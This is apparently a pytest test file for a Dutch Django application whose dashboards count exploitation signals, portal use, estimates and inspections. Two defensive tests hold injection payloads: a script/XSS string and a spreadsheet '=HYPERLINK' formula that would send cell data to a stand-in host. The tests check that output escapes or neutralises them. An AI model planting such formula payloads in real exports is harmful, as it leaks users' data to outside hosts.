"""Dashboards: the numbers a coordinator reads are the region's signals, cases, referrals,
casustafel, chat and portal use, counted from pre-aggregated rows that the periodic job keeps
current; every chart has its table and downloads; the zicht figure is registered against
estimated."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import timedelta

import pytest
from django.core.management import call_command
from django.utils import timezone, translation
from django.utils.html import escape
from openpyxl import load_workbook

from baken.audit.models import AuditEvent
from baken.casework.models import Signal
from baken.casework.services import PersonData, signal_create
from baken.directory.models import Municipality, MunicipalityPopulation, Region
from baken.insight.charts import Chart, Series, svg
from baken.insight.dashboards import DASHBOARDS
from baken.insight.models import NationalEstimate
from baken.portal.services import page_view_count
from tests.conftest import dutch

pytestmark = pytest.mark.django_db


def report(user, municipality: str, source: str, forms: list[str], *, age=None, **person):
    return signal_create(
        reporter=user,
        source=source,
        description="Verzonnen testmelding.",
        municipality=Municipality.objects.get(name=municipality),
        exploitation_forms=forms,
        persons=[PersonData(role="possible_victim", age_estimate=age, **person)],
    )


def table_of(html: str, chart: str) -> dict[str, list[str]]:
    """{first cell: other cells} of the table that belongs to ``chart`` on the page."""
    match = re.search(rf'<table[^>]*data-chart="{chart}".*?</table>', html, re.S)
    assert match, f"no table for {chart}"
    rows = {}
    for row in re.findall(r"<tr[^>]*>(.*?)</tr>", match.group(0), re.S)[1:]:
        cells = [
            re.sub(r"<[^>]+>", "", c).strip()
            for c in re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", row, re.S)
        ]
        rows[cells[0]] = cells[1:]
    return rows


@pytest.fixture
def caseload(persona):
    liaison, _ = persona("liaison")
    report(liaison, "Almelo", "police", ["labour"], age=30)
    report(liaison, "Almelo", "police", ["labour", "criminal"], age=19)
    report(liaison, "Enschede", "police", ["sexual"], age=15)
    report(liaison, "Hengelo", "municipality", ["sexual"])
    call_command("insight_refresh", stdout=io.StringIO())
    return liaison


def test_the_dashboard_shows_the_regions_signals_by_source_municipality_form_and_age(
    caseload, persona
):
    _, analyst = persona("analyst")
    page = analyst.get("/werk/inzicht/meldingen/")
    assert page.status_code == 200
    html = page.content.decode()
    assert table_of(html, "signals-by-source") == {"Politie": ["3"], "Gemeente": ["1"]}
    assert table_of(html, "signals-by-municipality") == {
        "Almelo": ["2"],
        "Enschede": ["1"],
        "Hengelo": ["1"],
    }
    ages = table_of(html, "signals-by-age-group")
    assert ages["12-17"] == ["1"] and ages["18-23"] == ["1"] and ages["24-30"] == ["1"]
    month = f"{timezone.localdate():%Y-%m}"
    per_month = table_of(html, "signals-per-month")[month]
    header = re.search(r'data-chart="signals-per-month".*?<thead.*?</thead>', html, re.S).group(0)
    columns = [re.sub(r"<[^>]+>", "", c) for c in re.findall(r"<th[^>]*>(.*?)</th>", header)][1:]
    assert dict(zip(columns, per_month, strict=True)) == {
        "Seksuele uitbuiting": "2",
        "Arbeidsuitbuiting": "2",
        "Criminele uitbuiting": "1",
    }
    assert "<svg" in html and "http://" not in html.replace(
        'xmlns="http://www.w3.org/2000/svg"', ""
    )


def test_a_form_filter_narrows_every_breakdown_to_that_form(caseload, persona):
    _, coordinator = persona("coordinator")
    html = coordinator.get("/werk/inzicht/meldingen/?form=labour").content.decode()
    assert table_of(html, "signals-by-municipality") == {"Almelo": ["2"]}
    assert table_of(html, "signals-by-source") == {"Politie": ["2"]}


def test_figures_change_only_when_the_periodic_job_has_run(caseload, persona):
    _, analyst = persona("analyst")
    report(caseload, "Losser", "police", ["labour"])
    html = analyst.get("/werk/inzicht/meldingen/").content.decode()
    assert "Losser" not in table_of(html, "signals-by-municipality")
    out = io.StringIO()
    call_command("insight_refresh", stdout=out)
    assert "figures in" in out.getvalue()
    call_command("insight_refresh", stdout=out)  # twice: the same rows, nothing doubled
    html = analyst.get("/werk/inzicht/meldingen/").content.decode()
    assert table_of(html, "signals-by-municipality")["Losser"] == ["1"]
    assert table_of(html, "signals-by-source")["Politie"] == ["4"]


def test_old_signals_fall_outside_the_default_year_and_inside_a_chosen_period(caseload, persona):
    signal = Signal.objects.get(municipality__name="Hengelo")
    two_years_ago = timezone.now() - timedelta(days=730)
    Signal.objects.filter(pk=signal.pk).update(received_at=two_years_ago)
    call_command("insight_refresh", stdout=io.StringIO())
    _, analyst = persona("analyst")
    html = analyst.get("/werk/inzicht/meldingen/").content.decode()
    assert "Hengelo" not in table_of(html, "signals-by-municipality")
    month = f"{timezone.localtime(two_years_ago):%Y-%m}"
    html = analyst.get(f"/werk/inzicht/meldingen/?start={month}&end={month}").content.decode()
    assert table_of(html, "signals-by-municipality") == {"Hengelo": ["1"]}


def test_each_table_downloads_as_csv_and_xlsx_with_the_same_numbers(caseload, persona):
    _, analyst = persona("analyst")
    response = analyst.get("/werk/inzicht/meldingen/signals-by-source.csv?form=labour")
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith(
        'attachment; filename="baken-signals-by-source-'
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    assert rows == [["Bron", "Aantal"], ["Politie", "2"]]
    response = analyst.get("/werk/inzicht/meldingen/signals-by-source.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [[c for c in row if c is not None] for row in sheet.iter_rows(values_only=True)]
    assert values[1:] == [["Bron", "Aantal"], ["Politie", 3], ["Gemeente", 1]]


def test_bad_filters_get_a_clear_message_and_no_numbers(caseload, persona):
    _, analyst = persona("analyst")
    response = analyst.get("/werk/inzicht/meldingen/?start=2026-13")
    assert response.status_code == 400
    assert "Geef een maand als jaar en maand" in response.content.decode()
    response = analyst.get("/werk/inzicht/meldingen/?start=2026-05&end=2026-01")
    assert response.status_code == 400
    assert "De eerste maand valt na de laatste" in response.content.decode()
    response = analyst.get(
        "/werk/inzicht/meldingen/signals-by-source.csv?start=1999-01&end=2026-01"
    )
    assert response.status_code == 400
    assert analyst.get("/werk/inzicht/meldingen/no-such-chart.csv").status_code == 404


def test_those_without_insight_rights_see_no_dashboard(caseload, persona):
    _, caseworker = persona("caseworker")
    assert caseworker.get("/werk/inzicht/meldingen/").status_code == 403
    assert caseworker.get("/werk/inzicht/meldingen/signals-by-source.csv").status_code == 403


def test_portal_use_appears_per_language_and_page_for_programme_managers(persona):
    for _ in range(3):
        page_view_count(slug="get-help", language="pl")
    page_view_count(slug="get-help", language="nl")
    call_command("insight_refresh", stdout=io.StringIO())
    _, manager = persona("programme_manager")
    html = manager.get("/werk/inzicht/chat-en-portaal/").content.decode()
    languages = table_of(html, "page-views-by-language")
    assert languages["Pools"] == ["3"] and languages["Nederlands"] == ["1"]
    pages = table_of(html, "page-views-by-page")
    assert list(pages.values()) == [["4"]]


def test_the_zicht_page_puts_registered_against_the_population_share(persona):
    twente = Region.objects.get(name="Twente")
    populations = MunicipalityPopulation.objects.filter(municipality__region=twente)
    # Seed 002's population of Twente: 627,848.
    enschede = populations.get(municipality__name="Enschede")
    total = sum(populations.values_list("population", flat=True))
    MunicipalityPopulation.objects.filter(pk=enschede.pk).update(
        population=enschede.population + 627_848 - total
    )
    NationalEstimate.objects.update_or_create(
        year=2015, defaults={"victims": 6250, "population": 16_900_000, "source": "test"}
    )
    liaison, _ = persona("liaison")
    same_person = {"name": "Jan Testpersoon", "date_of_birth": "2001-02-03"}
    report(liaison, "Almelo", "police", ["labour"], **same_person)
    report(liaison, "Almelo", "care", ["labour"], **same_person)
    report(liaison, "Enschede", "police", ["sexual"])
    _, coordinator = persona("coordinator")
    html = coordinator.get("/werk/inzicht/zicht/").content.decode()
    year = timezone.localdate().year
    headline = re.sub(r"\s+", " ", re.search(r'id="zicht-headline">(.*?)</p>', html, re.S).group(1))
    assert f"Twente, {year}: 2 mogelijke slachtoffers in beeld" in headline
    assert "232" in headline
    rows = table_of(html, "zicht")
    assert rows["Twente"][:2] == ["2", "232,2"]
    assert rows["Almelo"][0] == "1"
    response = coordinator.get("/werk/inzicht/zicht.csv")
    assert response.status_code == 200 and "Twente;2;232.2" in response.content.decode("utf-8-sig")


def test_chart_text_is_escaped_and_nothing_is_fetched():
    chart = Chart(
        key="t",
        title='<img src="https://example.org/x">',
        kind="bars",
        category_label="x",
        categories=["<script>alert(1)</script>"],
        series=[Series("n", [3])],
    )
    drawing = svg(chart)
    assert "<script>" not in drawing and "<img" not in drawing
    assert "&lt;script&gt;" in drawing


def test_an_analyst_estimates_from_the_overlap_of_the_regions_own_sources(persona, tmp_path):
    liaison, _ = persona("liaison")
    people = [
        {"name": f"Testpersoon {i}", "date_of_birth": f"1990-01-{i + 1:02d}"} for i in range(9)
    ]
    for person in people[:6]:
        report(liaison, "Almelo", "police", ["labour"], **person)
    for person in people[3:]:
        report(liaison, "Hengelo", "care", ["labour"], **person)
    _, analyst = persona("analyst")
    page = analyst.get("/werk/inzicht/schatting/?method=main")
    assert page.status_code == 200
    html = re.sub(r"\s+", " ", page.content.decode())
    # 6 on the police list, 6 on the care list, 3 on both: Lincoln–Petersen gives 6 × 6 ÷ 3 = 12.
    assert (
        "9 mensen op minstens één lijst; naar schatting 12 in totaal, van wie 3 op geen lijst."
        in html
    )
    assert AuditEvent.objects.filter(purpose="insight: overlap of sources (MSE)").exists()

    download = analyst.get("/werk/inzicht/schatting/?method=main&format=csv")
    path = tmp_path / "overlap.csv"
    path.write_bytes(download.content)
    out = io.StringIO()
    call_command("estimate", str(path), "--method", "main", "--format", "json", stdout=out)
    result = json.loads(out.getvalue())
    assert result["observed"] == 9 and result["estimate"] == pytest.approx(12.0, abs=0.05)


def test_an_exhaustive_search_over_too_many_sources_is_refused_with_a_reason(persona):
    liaison, _ = persona("liaison")
    sources = ["police", "care", "municipality", "school", "chat", "citizen", "inspection"]
    for i, source in enumerate(sources):
        for j in range(2):
            report(
                liaison, "Almelo", source, ["sexual"], name=f"P{i}{j}", date_of_birth="2000-01-01"
            )
    _, analyst = persona("analyst")
    response = analyst.get("/werk/inzicht/schatting/?method=bic")
    assert response.status_code == 400
    assert "Met 7 bronnen zijn er te veel modellen" in response.content.decode()
    assert analyst.get("/werk/inzicht/schatting/?method=stepwise").status_code == 200


def test_supervision_and_prevention_show_visits_findings_flags_reach_and_results(persona):
    """The numbers on the dashboard equal what was recorded in supervision and prevention."""
    from baken.programmes.models import Activity, Project, Result
    from baken.supervision.models import FollowUp, HousingAddress, Inspection

    supervisor, _ = persona("supervisor")
    wierden = Municipality.objects.get(name="Wierden")
    housing = HousingAddress.objects.create(
        address="Fabrieksweg 3",
        postal_code="7641 AA",
        capacity=6,
        registered=6,
        municipality=wierden,
    )
    today = timezone.localdate()
    visit = Inspection.objects.create(
        kind="housing",
        housing=housing,
        visited_on=today,
        people_observed=14,
        indicators=["no-own-documents"],
        inspector=supervisor,
    )
    FollowUp.objects.create(
        inspection=visit, action="Herinspectie", owner="Toezicht", due_on=today - timedelta(days=1)
    )
    project = Project.objects.get(slug="lesprogramma-doorsturen-doe-je-niet")
    Result.objects.create(
        project=project, description="Scholen bereikt", year=today.year, planned=8, achieved=5
    )
    call_command("insight_refresh", stdout=io.StringIO())
    _, manager = persona("programme_manager")
    html = manager.get("/werk/inzicht/toezicht-en-preventie/").content.decode()

    assert table_of(html, "inspections-by-municipality") == {"Wierden": ["1"]}
    seen = table_of(html, "inspection-findings")
    assert len(seen) == 2 and all(cells == ["1"] for cells in seen.values())  # papers + crowding
    flags = table_of(html, "housing-flags")
    assert flags["Meer mensen aangetroffen dan plaatsen"] == ["1"]
    assert table_of(html, "follow-ups") == {"Te laat": ["1"]}

    # Reach per municipality: the demo's activities of the default period (the last 12 months).
    start = (today.replace(day=1) - timedelta(days=335)).replace(day=1)
    in_period = Activity.objects.filter(held_on__gte=start, held_on__lte=today)
    reach = table_of(html, "reach-by-municipality")
    enschede = in_period.filter(municipality__name="Enschede")
    assert reach["Enschede"] == [
        dutch(sum(a.participants for a in enschede)),
        dutch(enschede.count()),
    ]
    sexual = [a for a in in_period if "sexual" in a.themes]
    assert table_of(html, "reach-by-theme")["Seksuele uitbuiting"] == [
        dutch(sum(a.participants for a in sexual)),
        dutch(len(sexual)),
    ]
    results = table_of(html, "project-results")
    assert results[f"Lesprogramma Doorsturen doe je niet!: Scholen bereikt ({today.year})"] == [
        "8",
        "5",
    ]


def test_every_declared_chart_spec_is_a_chart_on_its_dashboard_in_order(caseload, persona):
    """The spec lists drive the pages: each spec of a dashboard is drawn, in its order, with its
    table and title."""
    _, analyst = persona("analyst")
    for slug, board in DASHBOARDS.items():
        html = analyst.get(f"/werk/inzicht/{slug}/").content.decode()
        drawn = re.findall(r'<table[^>]*data-chart="([^"]+)"', html)
        assert drawn == [spec.key for spec in board.charts], slug
        for spec in board.charts:
            with translation.override("nl"):
                title = escape(str(spec.title))
            assert f'id="chart-{spec.key}-title">{title}</h2>' in html, spec.key


def test_downloaded_tables_never_carry_a_formula(caseload, persona):
    """Security finding 9: a name from outside (here a municipality from an import) that starts
    like a formula is written as text in CSV and XLSX."""
    rogue = Municipality.objects.create(
        cbs_code="GM9999",
        name='=HYPERLINK("http://x.example/?"&A1,"Klik")',
        region=Region.objects.get(code="twente"),
    )
    signal_create(reporter=None, source="police", description="Test.", municipality=rogue)
    call_command("insight_refresh", stdout=io.StringIO())
    _, analyst = persona("analyst")
    response = analyst.get("/werk/inzicht/meldingen/signals-by-municipality.csv")
    text = response.content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    cells = [cell for row in rows for cell in row]
    assert "'" + rogue.name in cells
    assert not any(cell.startswith(("=", "+", "@")) for cell in cells)
    response = analyst.get("/werk/inzicht/meldingen/signals-by-municipality.xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    values = [c for row in sheet.iter_rows(values_only=True) for c in row if c is not None]
    assert "'" + rogue.name in values
    assert not any(isinstance(v, str) and v.startswith("=") for v in values)
